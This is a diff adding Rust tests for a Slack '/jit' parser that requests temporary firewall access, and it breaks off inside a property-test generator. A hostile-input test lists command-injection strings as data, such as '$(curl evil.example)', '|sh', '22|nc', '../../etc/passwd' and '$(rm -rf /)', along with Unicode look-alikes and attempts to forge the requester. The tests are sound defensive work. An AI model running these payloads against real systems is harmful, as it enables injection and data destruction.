@@ -606,3 +606,1020 @@ fn status(text: &str, words: &[Word<'_>]) -> Result<SlackCommand, GrammarError> 
     }
 }
 
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::command::{Action, Command, GrantRequest};
+    use crate::firewall::{PortRange, Protocol};
+    use crate::policy::Policy;
+    use crate::rejection::{Code, Rejection};
+    use proptest::prelude::*;
+    use serde_json::json;
+    use std::time::Duration;
+
+    /// What the Slack caller adds; the text must never have set any of them.
+    const CALLER_FIELDS: [&str; 4] = ["requester", "requestId", "issuedAt", "replyTo"];
+
+    fn command(text: &str) -> Value {
+        match parse(text) {
+            Ok(parsed) => parsed.to_command().unwrap_or(Value::Null),
+            Err(e) => panic!("{text:?} refused: {e}"),
+        }
+    }
+
+    fn refusal(text: &str) -> GrammarError {
+        match parse(text) {
+            Ok(parsed) => panic!("{text:?} parsed as {parsed:?}"),
+            Err(e) => e,
+        }
+    }
+
+    /// The JSON as the caller sends it on: its own fields added, none of them already
+    /// there (a grant's `requestId` is the caller's; a revoke's or extend's is the text's).
+    fn as_the_caller_sends(mut command: Value) -> Value {
+        let object = command.as_object_mut().unwrap();
+        let is_grant = object["action"] == "grant";
+        for field in CALLER_FIELDS {
+            let the_texts_own = field == "requestId" && !is_grant;
+            assert!(
+                the_texts_own || !object.contains_key(field),
+                "the text set {field}: {object:?}"
+            );
+        }
+        // `status` has no requester: the command refuses one as an unknown field.
+        if object["action"] != "status" {
+            object.insert("requester".into(), json!("alice"));
+        }
+        if is_grant {
+            object.insert("requestId".into(), json!("slack-1"));
+        }
+        object.insert("issuedAt".into(), json!("2026-11-23T10:00:00Z"));
+        command
+    }
+
+    fn typed(text: &str) -> Result<Command, Rejection> {
+        Command::from_json(&as_the_caller_sends(command(text)))
+    }
+
+    fn grant_of(text: &str) -> GrantRequest {
+        match typed(text).unwrap().action {
+            Action::Grant(g) => g,
+            other => panic!("{other:?}"),
+        }
+    }
+
+    fn now() -> jiff::Timestamp {
+        "2026-11-23T10:00:00Z".parse().unwrap()
+    }
+
+    /// A text's fate through every judge a Slack user meets.
+    #[derive(Debug, PartialEq)]
+    enum Judged {
+        /// The grammar refused it; the reason contains this.
+        Refused(String),
+        /// `Command::from_json` rejected it.
+        Rejected(Code),
+        /// The default policy refused the grant.
+        Denied(Code),
+        /// A command the policy accepts (help: `null`), as the grammar emitted it.
+        Accepted(Value),
+    }
+
+    fn judge(text: &str) -> Judged {
+        let parsed = match parse(text) {
+            Ok(parsed) => parsed,
+            Err(e) => return Judged::Refused(e.reason),
+        };
+        let Some(emitted) = parsed.to_command() else {
+            return Judged::Accepted(Value::Null);
+        };
+        let command = match Command::from_json(&as_the_caller_sends(emitted.clone())) {
+            Ok(command) => command,
+            Err(r) => return Judged::Rejected(r.code),
+        };
+        let expected_requester = match command.action {
+            Action::Status(_) => None,
+            _ => Some("alice"),
+        };
+        assert_eq!(command.action.requester(), expected_requester, "{text:?}");
+        assert!(!command.dry_run, "{text:?}");
+        assert_eq!(command.reply_to, None, "{text:?}");
+        if let Action::Grant(grant) = &command.action {
+            assert_eq!(command.request_id.as_deref(), Some("slack-1"), "{text:?}");
+            if let Err(r) = Policy::default().decide_grant(grant, "slack-1", now()) {
+                return Judged::Denied(r.code);
+            }
+        }
+        Judged::Accepted(emitted)
+    }
+
+    fn refused(part: &str) -> Judged {
+        Judged::Refused(part.to_string())
+    }
+
+    /// `expected` holds when it is the same, or, for a refusal, a part of the reason.
+    fn assert_judged(text: &str, expected: &Judged) {
+        let actual = judge(text);
+        match (&actual, expected) {
+            (Judged::Refused(reason), Judged::Refused(part)) => {
+                assert!(reason.contains(part), "{text:?}: {reason:?} lacks {part:?}")
+            }
+            _ => assert_eq!(&actual, expected, "{text:?}"),
+        }
+    }
+
+    #[test]
+    fn a_full_grant_names_every_field() {
+        assert_eq!(
+            command(
+                "grant web-1 22/tcp,8000-8100/udp for 1h from 203.0.113.7,2001:db8::7,lightsail-connect reason hotfix INC-1234"
+            ),
+            json!({
+                "action": "grant", "instanceName": "web-1", "ports": ["22/tcp", "8000-8100/udp"],
+                "cidrs": ["203.0.113.7"], "ipv6Cidrs": ["2001:db8::7"],
+                "cidrListAliases": ["lightsail-connect"], "duration": "1h",
+                "reason": "hotfix INC-1234"
+            })
+        );
+        let g = grant_of(
+            "grant web-1 22/tcp,8000-8100/udp for 1h from 203.0.113.7,2001:db8::7,lightsail-connect reason hotfix INC-1234",
+        );
+        assert_eq!(g.instance_name, "web-1");
+        assert_eq!(
+            g.ports,
+            Some(vec![
+                PortRange::new(Protocol::Tcp, 22, 22),
+                PortRange::new(Protocol::Udp, 8000, 8100)
+            ])
+        );
+        assert_eq!(g.sources.ipv4[0].to_string(), "203.0.113.7/32");
+        assert_eq!(g.sources.ipv6[0].to_string(), "2001:db8::7/128");
+        assert_eq!(g.sources.aliases, vec!["lightsail-connect"]);
+        assert_eq!(g.duration, Some(Duration::from_secs(3600)));
+        assert_eq!(g.reason.as_deref(), Some("hotfix INC-1234"));
+    }
+
+    #[test]
+    fn a_minimal_grant_leaves_ports_and_duration_to_the_policy() {
+        assert_eq!(
+            command("grant web-1 from 203.0.113.7"),
+            json!({"action": "grant", "instanceName": "web-1", "cidrs": ["203.0.113.7"]})
+        );
+        let g = Policy::default()
+            .decide_grant(&grant_of("grant web-1 from 203.0.113.7"), "slack-1", now())
+            .unwrap();
+        assert_eq!(g.ports, vec![PortRange::new(Protocol::Tcp, 22, 22)]);
+        assert_eq!(crate::clock::rfc3339(g.expires_at), "2026-11-23T11:00:00Z");
+        assert_eq!(g.requester, "alice");
+    }
+
+    #[test]
+    fn for_from_and_reason_come_in_any_order_after_the_ports() {
+        let expected = json!({
+            "action": "grant", "instanceName": "web-1", "ports": ["22"],
+            "cidrs": ["203.0.113.7"], "duration": "30m", "reason": "deploy"
+        });
+        assert_eq!(
+            command("grant web-1 22 for 30m from 203.0.113.7 reason deploy"),
+            expected
+        );
+        assert_eq!(
+            command("grant web-1 22 from 203.0.113.7 for 30m reason deploy"),
+            expected
+        );
+        // `reason` eats the rest, keywords included: here it swallowed the `from`.
+        let e = refusal("grant web-1 22 reason moved for a while from the old box");
+        assert!(e.reason.contains("needs `from`"), "{}", e.reason);
+        assert_eq!(
+            command("grant web-1 from 203.0.113.7 reason moved from the old box for now")["reason"],
+            "moved from the old box for now"
+        );
+    }
+
+    #[test]
+    fn revoke_extend_status_and_help() {
+        assert_eq!(
+            command("revoke web-1"),
+            json!({"action": "revoke", "instanceName": "web-1"})
+        );
+        assert_eq!(
+            command("revoke web-1 chg-1001"),
+            json!({"action": "revoke", "instanceName": "web-1", "requestId": "chg-1001"})
+        );
+        assert_eq!(
+            command("extend web-1 chg-1001 for 30m"),
+            json!({"action": "extend", "instanceName": "web-1", "requestId": "chg-1001", "duration": "30m"})
+        );
+        assert_eq!(
+            command("extend web-1 chg-1001"),
+            json!({"action": "extend", "instanceName": "web-1", "requestId": "chg-1001"})
+        );
+        assert_eq!(command("status"), json!({"action": "status"}));
+        assert_eq!(
+            command("status web-1"),
+            json!({"action": "status", "instanceName": "web-1"})
+        );
+        for text in ["help", "HELP", "", "   ", "\t\u{a0}", "help grant"] {
+            assert_eq!(parse(text), Ok(SlackCommand::Help), "{text:?}");
+            assert_eq!(SlackCommand::Help.to_command(), None);
+        }
+    }
+
+    #[test]
+    fn every_valid_form_is_the_command_it_says() {
+        let revoke = typed("revoke web-1 chg-1001").unwrap();
+        assert_eq!(revoke.request_id.as_deref(), Some("chg-1001"));
+        let Action::Revoke(r) = revoke.action else {
+            panic!("not a revoke")
+        };
+        assert_eq!(r.target.instance_name, "web-1");
+        assert_eq!(r.grant.map(|g| g.to_string()).as_deref(), Some("chg-1001"));
+
+        let Action::Revoke(all) = typed("revoke web-1").unwrap().action else {
+            panic!("not a revoke")
+        };
+        assert_eq!(all.grant, None);
+
+        let Action::Extend(e) = typed("extend web-1 chg-1001 for 1h 30m").unwrap().action else {
+            panic!("not an extend")
+        };
+        assert_eq!(e.grant.to_string(), "chg-1001");
+        assert_eq!(e.duration, Some(Duration::from_secs(5400)));
+
+        let Action::Status(s) = typed("status web-1").unwrap().action else {
+            panic!("not a status")
+        };
+        assert_eq!(s.instance_name.as_deref(), Some("web-1"));
+        let Action::Status(every) = typed("status").unwrap().action else {
+            panic!("not a status")
+        };
+        assert_eq!(every.instance_name, None);
+    }
+
+    #[test]
+    fn keywords_match_any_ascii_case_and_values_stay_as_typed() {
+        assert_eq!(
+            command("GRANT Web-1 22/TCP FROM 203.0.113.7 For 2H REASON Hotfix"),
+            json!({
+                "action": "grant", "instanceName": "Web-1", "ports": ["22/TCP"],
+                "cidrs": ["203.0.113.7"], "duration": "2H", "reason": "Hotfix"
+            })
+        );
+        assert_eq!(
+            command("Revoke web-1 CHG-1")["requestId"],
+            "CHG-1",
+            "a request id is a value, kept as typed"
+        );
+    }
+
+    #[test]
+    fn words_are_separated_by_spaces_tabs_and_no_break_spaces() {
+        let plain = command("grant web-1 22 from 203.0.113.7 reason x");
+        for text in [
+            "  grant   web-1\t22 \t from 203.0.113.7   reason x  ",
+            "grant\u{a0}web-1\u{a0}\u{a0}22\u{a0}from\u{a0}203.0.113.7\u{a0}reason\u{a0}x\u{a0}",
+            "grant\u{202f}web-1\u{2007}22 from\u{202f}203.0.113.7 reason x",
+        ] {
+            assert_eq!(command(text), plain, "{text:?}");
+        }
+        assert_eq!(
+            command("grant web-1 from 203.0.113.7 reason a\u{a0} b")["reason"],
+            "a\u{a0} b",
+            "inside a reason, every space is kept verbatim"
+        );
+        // Other Unicode spaces are part of the word, and the command refuses it.
+        assert_judged(
+            "status web-1\u{2003}",
+            &Judged::Rejected(Code::InvalidInstanceName),
+        );
+        // The ideographic space joined `web-1` and `from`: no `from` keyword is left.
+        assert_judged(
+            "grant web-1\u{3000}from 203.0.113.7",
+            &refused("`grant` needs `from`"),
+        );
+        assert_eq!(
+            command("grant web-1 22\u{2003}23 from 203.0.113.7")["ports"],
+            json!(["22\u{2003}23"])
+        );
+        // A tab inside a reason is kept too, and the command's reason rule refuses it.
+        assert_judged(
+            "grant web-1 from 203.0.113.7 reason a\tb",
+            &Judged::Rejected(Code::InvalidReason),
+        );
+    }
+
+    #[test]
+    fn lists_are_comma_separated_with_optional_spaces_around_commas() {
+        for text in [
+            "grant web-1 22,443 from 203.0.113.7",
+            "grant web-1 22, 443 from 203.0.113.7",
+            "grant web-1 22 ,443 from 203.0.113.7",
+            "grant web-1 22 , 443 from 203.0.113.7",
+            "grant web-1 22,\u{a0}443 from 203.0.113.7",
+        ] {
+            assert_eq!(command(text)["ports"], json!(["22", "443"]), "{text:?}");
+        }
+        assert_eq!(
+            command("grant web-1 from 203.0.113.7, 198.51.100.9 ,2001:db8::1")["cidrs"],
+            json!(["203.0.113.7", "198.51.100.9"])
+        );
+        let e = refusal("grant web-1 22 443 from 203.0.113.7");
+        assert_eq!(
+            e.reason,
+            "after \"22\", expected a comma or one of `for`, `from`, `reason`, got \"443\""
+        );
+        let e = refusal("grant web-1 from 203.0.113.7 resaon hotfix");
+        assert_eq!(
+            e.reason,
+            "after \"203.0.113.7\", expected a comma or one of `for`, `from`, `reason`, got \"resaon\""
+        );
+        for text in [
+            "grant web-1 22,,443 from 203.0.113.7",
+            "grant web-1 ,22 from 203.0.113.7",
+            "grant web-1 from 203.0.113.7,",
+            "grant web-1 from 203.0.113.7, reason x",
+            "grant web-1 from , for 1h",
+        ] {
+            let e = refusal(text);
+            assert!(
+                e.reason.contains("has an empty item"),
+                "{text:?}: {}",
+                e.reason
+            );
+            assert_eq!(e.usage, GRANT_USAGE);
+        }
+    }
+
+    #[test]
+    fn sources_go_to_the_field_of_their_shape() {
+        assert_eq!(
+            parse(
+                "grant web-1 from 203.0.113.7,198.51.100.0/24,2001:db8::/64,Lightsail-Connect,example.com,1.2.3.4:22"
+            ),
+            Ok(SlackCommand::Grant {
+                instance_name: "web-1".into(),
+                ports: None,
+                duration: None,
+                sources: Sources {
+                    cidrs: vec![
+                        "203.0.113.7".into(),
+                        "198.51.100.0/24".into(),
+                        "example.com".into()
+                    ],
+                    ipv6_cidrs: vec!["2001:db8::/64".into(), "1.2.3.4:22".into()],
+                    cidr_list_aliases: vec!["Lightsail-Connect".into()],
+                },
+                reason: None,
+            })
+        );
+        // What is neither an address nor the alias is named by the command's validation.
+        for (text, code) in [
+            ("grant web-1 from example.com", Code::InvalidCidr),
+            ("grant web-1 from 1.2.3.4:22", Code::InvalidCidr),
+            ("grant web-1 from ::ffff:203.0.113.7", Code::InvalidCidr),
+            ("grant web-1 from Lightsail-Connect", Code::InvalidAlias),
+            ("grant web-1 from 127.0.0.1", Code::InvalidCidr),
+        ] {
+            assert_eq!(typed(text).unwrap_err().code, code, "{text}");
+        }
+        let e = typed("grant web-1 from example.com").unwrap_err();
+        assert!(e.message.contains("`cidrs[0]`"), "{}", e.message);
+        assert!(typed("grant web-1 from lightsail-connect").is_ok());
+    }
+
+    #[test]
+    fn the_command_and_the_policy_judge_what_the_grammar_split() {
+        for (text, expected) in [
+            (
+                "grant web-1 22 from 0.0.0.0/0",
+                Judged::Denied(Code::SourceTooWide),
+            ),
+            (
+                "grant web-1 22 from ::/0",
+                Judged::Denied(Code::SourceTooWide),
+            ),
+            (
+                "grant web-1 22 from 10.0.0.0/8",
+                Judged::Denied(Code::SourceTooWide),
+            ),
+            (
+                "grant web-1 80 from 203.0.113.7",
+                Judged::Denied(Code::PortNotAllowed),
+            ),
+            (
+                "grant web-1 for 13h from 203.0.113.7",
+                Judged::Denied(Code::DurationTooLong),
+            ),
+            (
+                "grant web-1 70000 from 203.0.113.7",
+                Judged::Rejected(Code::InvalidPort),
+            ),
+            (
+                "grant web-1 22/sctp from 203.0.113.7",
+                Judged::Rejected(Code::InvalidPort),
+            ),
+            (
+                "grant web-1 for soon from 203.0.113.7",
+                Judged::Rejected(Code::InvalidDuration),
+            ),
+            (
+                "grant web-1 for 0 from 203.0.113.7",
+                Judged::Rejected(Code::InvalidDuration),
+            ),
+            (
+                "extend web-1 chg-1 for -1h",
+                Judged::Rejected(Code::InvalidDuration),
+            ),
+            (
+                "grant -web from 203.0.113.7",
+                Judged::Rejected(Code::InvalidInstanceName),
+            ),
+            (
+                "revoke web-1 a/b=c",
+                Judged::Accepted(
+                    json!({"action": "revoke", "instanceName": "web-1", "requestId": "a/b=c"}),
+                ),
+            ),
+            (
+                "revoke web-1 chg#1",
+                Judged::Rejected(Code::InvalidRequestId),
+            ),
+            (
+                "grant web-1 22 for 1h 30m from 203.0.113.7",
+                Judged::Accepted(json!({
+                    "action": "grant", "instanceName": "web-1", "ports": ["22"],
+                    "cidrs": ["203.0.113.7"], "duration": "1h 30m"
+                })),
+            ),
+            (
+                &format!("grant web-1 from 203.0.113.7 reason {}", "x".repeat(257)),
+                Judged::Rejected(Code::InvalidReason),
+            ),
+        ] {
+            assert_judged(text, &expected);
+        }
+        let g = grant_of("grant web-1 for 1h 30m from 203.0.113.7");
+        assert_eq!(g.duration, Some(Duration::from_secs(5400)));
+    }
+
+    #[test]
+    fn refusals_are_precise_and_carry_the_usage_of_their_form() {
+        for (text, reason, usage) in [
+            (
+                "grant",
+                "`grant` needs the instance name first",
+                GRANT_USAGE,
+            ),
+            (
+                "grant from 203.0.113.7",
+                "`grant` needs the instance name first",
+                GRANT_USAGE,
+            ),
+            (
+                "grant web-1 22",
+                "`grant` needs `from` and your public address (Slack does not send it)",
+                GRANT_USAGE,
+            ),
+            (
+                "grant web-1 for 1h reason x from 203.0.113.7",
+                "needs `from`",
+                GRANT_USAGE,
+            ),
+            (
+                "grant web-1 from",
+                "`from` needs at least one source",
+                GRANT_USAGE,
+            ),
+            (
+                "grant web-1 from for 1h",
+                "`from` needs at least one source",
+                GRANT_USAGE,
+            ),
+            (
+                "grant web-1 for from 203.0.113.7",
+                "`for` needs a duration",
+                GRANT_USAGE,
+            ),
+            (
+                "grant web-1 from 203.0.113.7 for",
+                "`for` needs a duration",
+                GRANT_USAGE,
+            ),
+            (
+                "grant web-1 from 203.0.113.7 reason",
+                "`reason` needs some text",
+                GRANT_USAGE,
+            ),
+            (
+                "grant web-1 from 203.0.113.7 reason \u{a0} \t",
+                "`reason` needs some text",
+                GRANT_USAGE,
+            ),
+            (
+                "grant web-1 for 1h for 2h from 203.0.113.7",
+                "`for` is given twice",
+                GRANT_USAGE,
+            ),
+            (
+                "grant web-1 from 203.0.113.7 FROM 198.51.100.9",
+                "`from` is given twice",
+                GRANT_USAGE,
+            ),
+            ("revoke", "`revoke` needs the instance name", REVOKE_USAGE),
+            (
+                "revoke web-1 chg-1 now",
+                "unexpected \"now\": `revoke` takes an instance and, optionally",
+                REVOKE_USAGE,
+            ),
+            (
+                "revoke web-1 reason done",
+                "`reason` is not part of `revoke`",
+                REVOKE_USAGE,
+            ),
+            (
+                "revoke web-1 for 1h",
+                "`for` is not part of `revoke`",
+                REVOKE_USAGE,
+            ),
+            ("extend", "`extend` needs the instance name", EXTEND_USAGE),
+            (
+                "extend web-1",
+                "`extend` needs the grant's request id",
+                EXTEND_USAGE,
+            ),
+            (
+                "extend web-1 for 30m",
+                "`extend` needs the grant's request id",
+                EXTEND_USAGE,
+            ),
+            (
+                "extend web-1 chg-1 for",
+                "`for` needs a duration",
+                EXTEND_USAGE,
+            ),
+            (
+                "extend web-1 chg-1 for 1h for 2h",
+                "`for` is given twice",
+                EXTEND_USAGE,
+            ),
+            (
+                "extend web-1 chg-1 30m",
+                "unexpected \"30m\": `extend` takes",
+                EXTEND_USAGE,
+            ),
+            (
+                "extend web-1 chg-1 for 1h from 203.0.113.7",
+                "`from` is not part of `extend`",
+                EXTEND_USAGE,
+            ),
+            (
+                "status web-1 db-1",
+                "unexpected \"db-1\": `status` takes at most an instance",
+                STATUS_USAGE,
+            ),
+            (
+                "status from 203.0.113.7",
+                "`from` is not part of `status`",
+                STATUS_USAGE,
+            ),
+            (
+                "open web-1",
+                "\"open\" is not a /jit subcommand; the subcommands are grant, revoke, extend, status, help",
+                USAGE,
+            ),
+        ] {
+            let e = refusal(text);
+            assert!(e.reason.contains(reason), "{text:?}: {:?}", e.reason);
+            assert_eq!(e.usage, usage, "{text:?}");
+        }
+    }
+
+    #[test]
+    fn display_gives_the_reason_then_the_usage() {
+        assert_eq!(
+            refusal("revoke").to_string(),
+            "`revoke` needs the instance name, e.g. `revoke web-1`\nUsage: /jit revoke INSTANCE [REQUEST_ID]"
+        );
+        let e = refusal("fly");
+        assert_eq!(e.to_string(), format!("{}\nUsage:\n{USAGE}", e.reason));
+        assert_eq!(
+            USAGE.lines().collect::<Vec<_>>(),
+            vec![
+                GRANT_USAGE,
+                REVOKE_USAGE,
+                EXTEND_USAGE,
+                STATUS_USAGE,
+                HELP_USAGE
+            ]
+        );
+    }
+
+    #[test]
+    fn help_shows_every_form_with_an_example_that_works() {
+        let help = help_text();
+        for usage in USAGE.lines() {
+            assert!(help.contains(usage), "{usage}");
+        }
+        assert!(help.contains("curl https://checkip.amazonaws.com"));
+        assert!(help.contains("`from` is required: Slack does not send your address"));
+        assert!(
+            !help.contains(['<', '>', '&']),
+            "Slack would read these as markup"
+        );
+        assert!(!USAGE.contains(['<', '>', '&']));
+        let examples: Vec<&str> = help
+            .lines()
+            .filter_map(|line| line.split("e.g. `/jit ").nth(1))
+            .filter_map(|rest| rest.split('`').next())
+            .collect();
+        assert_eq!(examples.len(), 4, "{examples:?}");
+        for (example, action) in examples.iter().zip(["grant", "revoke", "extend", "status"]) {
+            let command = typed(example).unwrap();
+            assert_eq!(command.action.name(), action, "{example}");
+        }
+        let Action::Grant(g) = typed(examples[0]).unwrap().action else {
+            panic!("not a grant")
+        };
+        assert!(Policy::default().decide_grant(&g, "slack-1", now()).is_ok());
+    }
+
+    #[test]
+    fn the_length_limit_comes_before_anything_else() {
+        let padded = |len: usize| {
+            let head = "grant web-1 from 203.0.113.7 reason ";
+            format!("{head}{}", "x".repeat(len - head.len()))
+        };
+        assert!(parse(&padded(MAX_TEXT_BYTES)).is_ok());
+        let e = refusal(&padded(MAX_TEXT_BYTES + 1));
+        assert_eq!(
+            e.reason,
+            "the text is 4001 bytes; a /jit command is at most 4000 bytes"
+        );
+        let ten_kb = format!("grant web-1 from 203.0.113.7\nreason {}", "é".repeat(5000));
+        let e = refusal(&ten_kb);
+        assert!(
+            e.reason.starts_with("the text is 10036 bytes"),
+            "{}",
+            e.reason
+        );
+        assert_eq!(e.usage, USAGE);
+    }
+
+    #[test]
+    fn line_breaks_and_control_characters_are_refused() {
+        for (text, reason) in [
+            (
+                "grant web-1 from 203.0.113.7\nreason x",
+                "the text has a line break (U+000A) at character 29; put the whole command on one line",
+            ),
+            (
+                "status web-1\r\n",
+                "the text has a line break (U+000D) at character 13",
+            ),
+            (
+                "status\u{2028}web-1",
+                "the text has a line break (U+2028) at character 7",
+            ),
+            ("status web-1\u{2029}", "the text has a line break (U+2029)"),
+            (
+                "status web\u{0}-1",
+                "the text has the control character U+0000 at character 11; remove it",
+            ),
+            (
+                "grant web-1 from 203.0.113.7 reason \u{1b}[31mred",
+                "control character U+001B",
+            ),
+            ("status web-1\u{7}", "control character U+0007"),
+            ("status web-1\u{7f}", "control character U+007F"),
+            ("status web-1\u{85}", "control character U+0085"),
+        ] {
+            let e = refusal(text);
+            assert!(e.reason.contains(reason), "{text:?}: {:?}", e.reason);
+            assert_eq!(e.usage, USAGE);
+        }
+    }
+
+    /// Hostile text, each judged by the grammar, then the command, then the policy.
+    #[test]
+    fn hostile_corpus() {
+        let corpus: Vec<(&str, Judged)> = vec![
+            // Look-alike letters: not keywords, and the refusal points at them.
+            (
+                "ｇｒａｎｔ web-1 from 203.0.113.7",
+                refused("(it contains U+FF47, which is not an ASCII letter or digit)"),
+            ),
+            (
+                "grаnt web-1 from 203.0.113.7",
+                refused("\"grаnt\" is not a /jit subcommand (it contains U+0430"),
+            ),
+            ("rеvoke web-1", refused("(it contains U+0435")),
+            (
+                "gr\u{200b}ant web-1 from 203.0.113.7",
+                refused("(it contains U+200B"),
+            ),
+            (
+                "grant web-1 from 203.0.113.7 rеason x",
+                refused("got \"rеason\" (it contains U+0435"),
+            ),
+            (
+                "grant web-1 ｆｒｏｍ 203.0.113.7",
+                refused("expected a comma or one of"),
+            ),
+            // Look-alikes in values land in a field, where the command refuses them.
+            (
+                "grant web-1 ２２ from 203.0.113.7",
+                Judged::Rejected(Code::InvalidPort),
+            ),
+            (
+                "grant web-1 ٢٢ from 203.0.113.7",
+                Judged::Rejected(Code::InvalidPort),
+            ),
+            (
+                "grant web-1 2２ from 203.0.113.7",
+                Judged::Rejected(Code::InvalidPort),
+            ),
+            (
+                "grant web-1 22/tсp from 203.0.113.7",
+                Judged::Rejected(Code::InvalidPort),
+            ),
+            (
+                "grant web-1 from ２03.0.113.7",
+                Judged::Rejected(Code::InvalidCidr),
+            ),
+            (
+                "grant web-1 from 203.0.113.7/２4",
+                Judged::Rejected(Code::InvalidCidr),
+            ),
+            (
+                "grant wеb-1 from 203.0.113.7",
+                Judged::Rejected(Code::InvalidInstanceName),
+            ),
+            (
+                "grant web-1 for １h from 203.0.113.7",
+                Judged::Rejected(Code::InvalidDuration),
+            ),
+            (
+                "grant web-1 from lightsail‐connect",
+                Judged::Rejected(Code::InvalidCidr),
+            ),
+            // Shell metacharacters are data: a field's validation refuses them...
+            (
+                "grant web-1 from $(curl evil.example)",
+                refused("after \"$(curl\", expected a comma"),
+            ),
+            (
+                "grant web-1 from $(id)",
+                Judged::Rejected(Code::InvalidCidr),
+            ),
+            ("grant web-1 from `id`", Judged::Rejected(Code::InvalidCidr)),
+            (
+                "grant web-1 from 203.0.113.7;id",
+                Judged::Rejected(Code::InvalidCidr),
+            ),
+            (
+                "grant web-1 from 203.0.113.7|sh",
+                Judged::Rejected(Code::InvalidCidr),
+            ),
+            (
+                "grant web-1;reboot from 203.0.113.7",
+                Judged::Rejected(Code::InvalidInstanceName),
+            ),
+            (
+                "grant $(hostname) from 203.0.113.7",
+                Judged::Rejected(Code::InvalidInstanceName),
+            ),
+            (
+                "grant web-1 22|nc from 203.0.113.7",
+                Judged::Rejected(Code::InvalidPort),
+            ),
+            (
+                "grant web-1 22&&id from 203.0.113.7",
+                Judged::Rejected(Code::InvalidPort),
+            ),
+            (
+                "grant web-1 for `sleep 9` from 203.0.113.7",
+                Judged::Rejected(Code::InvalidDuration),
+            ),
+            (
+                "revoke web-1 $(id)",
+                Judged::Rejected(Code::InvalidRequestId),
+            ),
+            ("status `id`", Judged::Rejected(Code::InvalidInstanceName)),
+            (
+                "status web-1|cat",
+                Judged::Rejected(Code::InvalidInstanceName),
+            ),
+            (
+                "status ../../etc/passwd",
+                Judged::Rejected(Code::InvalidInstanceName),
+            ),
+            // ...and a reason keeps them verbatim, for the audit log to show.
+            (
+                "grant web-1 from 203.0.113.7 reason $(rm -rf /); `id` | tee > /dev/null && echo '\"ok\"'",
+                Judged::Accepted(json!({
+                    "action": "grant", "instanceName": "web-1", "cidrs": ["203.0.113.7"],
+                    "reason": "$(rm -rf /); `id` | tee > /dev/null && echo '\"ok\"'"
+                })),
+            ),
+            (
+                "grant web-1 from 203.0.113.7 reason \u{202e}txt.exe",
+                Judged::Rejected(Code::InvalidReason),
+            ),
+            (
+                "grant web-1 from 203.0.113.7 reason a\u{200b}b",
+                Judged::Rejected(Code::InvalidReason),
+            ),
+            // Markup and JSON are text too.
+            (
+                "grant web-1 from 203.0.113.7 reason <!channel> &lt;@U123&gt;",
+                Judged::Accepted(json!({
+                    "action": "grant", "instanceName": "web-1", "cidrs": ["203.0.113.7"],
+                    "reason": "<!channel> &lt;@U123&gt;"
+                })),
+            ),
+            (
+                "grant web-1 {\"protocol\":\"tcp\",\"fromPort\":0,\"toPort\":65535} from 203.0.113.7",
+                Judged::Rejected(Code::InvalidPort),
+            ),
+            (
+                "grant web-1 [\"all\"] from 203.0.113.7",
+                Judged::Rejected(Code::InvalidPort),
+            ),
+            (
+                "grant web-1 all from 203.0.113.7",
+                Judged::Denied(Code::PortNotAllowed),
+            ),
+            (
+                "grant web-1 from 203.0.113.7 for 1h dryRun=true",
+                Judged::Rejected(Code::InvalidDuration),
+            ),
+        ];
+        for (text, expected) in &corpus {
+            assert_judged(text, expected);
+        }
+    }
+
+    #[test]
+    fn the_requester_cannot_be_forged() {
+        let reason = |text: &str| command(text)["reason"].clone();
+        assert_eq!(
+            reason("grant web-1 from 203.0.113.7 reason x requester=bob"),
+            "x requester=bob"
+        );
+        assert_eq!(
+            reason(r#"grant web-1 from 203.0.113.7 reason x","requester":"bob"#),
+            r#"x","requester":"bob"#
+        );
+        assert_eq!(
+            reason(
+                r#"grant web-1 from 203.0.113.7 reason x"} {"action":"grant","requester":"bob"}"#
+            ),
+            r#"x"} {"action":"grant","requester":"bob"}"#
+        );
+        assert_eq!(
+            reason("grant web-1 from 203.0.113.7 reason requester bob requestId chg-1"),
+            "requester bob requestId chg-1"
+        );
+        for (text, expected) in [
+            (
+                "grant web-1 from 203.0.113.7 requester bob",
+                refused("got \"requester\""),
+            ),
+            (
+                "grant web-1 from 203.0.113.7 --requester=bob",
+                refused("got \"--requester=bob\""),
+            ),
+            (
+                "grant web-1 from 203.0.113.7 requestId chg-1",
+                refused("got \"requestId\""),
+            ),
+            (
+                "grant web-1 from 203.0.113.7,requester=bob",
+                Judged::Rejected(Code::InvalidCidr),
+            ),
+            (
+                "grant requester=bob from 203.0.113.7",
+                Judged::Rejected(Code::InvalidInstanceName),
+            ),
+            (
+                "grant web-1 requester:bob from 203.0.113.7",
+                Judged::Rejected(Code::InvalidPort),
+            ),
+            (
+                "grant web-1 {\"requester\":\"bob\"} from 203.0.113.7",
+                Judged::Rejected(Code::InvalidPort),
+            ),
+            (
+                "grant web-1 for 1h&requester=bob from 203.0.113.7",
+                Judged::Rejected(Code::InvalidDuration),
+            ),
+            (
+                "grant web-1 from 203.0.113.7 reason x requester=bob",
+                Judged::Accepted(json!({
+                    "action": "grant", "instanceName": "web-1", "cidrs": ["203.0.113.7"],
+                    "reason": "x requester=bob"
+                })),
+            ),
+            // In a revoke the second word is a request id: the grant to end, not a person.
+            (
+                "revoke web-1 requester=bob",
+                Judged::Accepted(json!({
+                    "action": "revoke", "instanceName": "web-1", "requestId": "requester=bob"
+                })),
+            ),
+            (
+                "revoke web-1 chg-1 requester=bob",
+                refused("unexpected \"requester=bob\""),
+            ),
+            (
+                "extend web-1 chg-1 for 1h requester bob",
+                Judged::Rejected(Code::InvalidDuration),
+            ),
+            (
+                "status web-1 requester=bob",
+                refused("unexpected \"requester=bob\""),
+            ),
+        ] {
+            assert_judged(text, &expected);
+        }
+    }
+
+    /// Every field a form may emit; anything else would be the text setting a field.
+    fn emittable(action: &str) -> &'static [&'static str] {
+        match action {
+            "grant" => &[
+                "action",
+                "instanceName",
+                "ports",
+                "cidrs",
+                "ipv6Cidrs",
+                "cidrListAliases",
+                "duration",
+                "reason",
+            ],
+            "revoke" => &["action", "instanceName", "requestId"],
+            "extend" => &["action", "instanceName", "requestId", "duration"],
+            "status" => &["action", "instanceName"],
+            other => panic!("unexpected action {other}"),
+        }
+    }
+
+    fn words_of_a_hostile_text() -> impl Strategy<Value = String> {
+        let pieces = prop::sample::select(vec![
+            "grant",
+            "revoke",
+            "extend",
+            "status",
+            "help",
+            "for",
+            "FROM",
+            "reason",
+            "requester",
+            "requester=bob",
+            "requestId",
+            "issuedAt",
+            "dryRun",
+            "replyTo",
+            "\"requester\":\"bob\"",
+            "{",
+            "}",
+            ",",
+            ":",
+            "=",
+            " ",
+            "  ",
+            "\t",
+            "\u{a0}",
+            "web-1",
+            "203.0.113.7",
+            "::1",
+            "22",
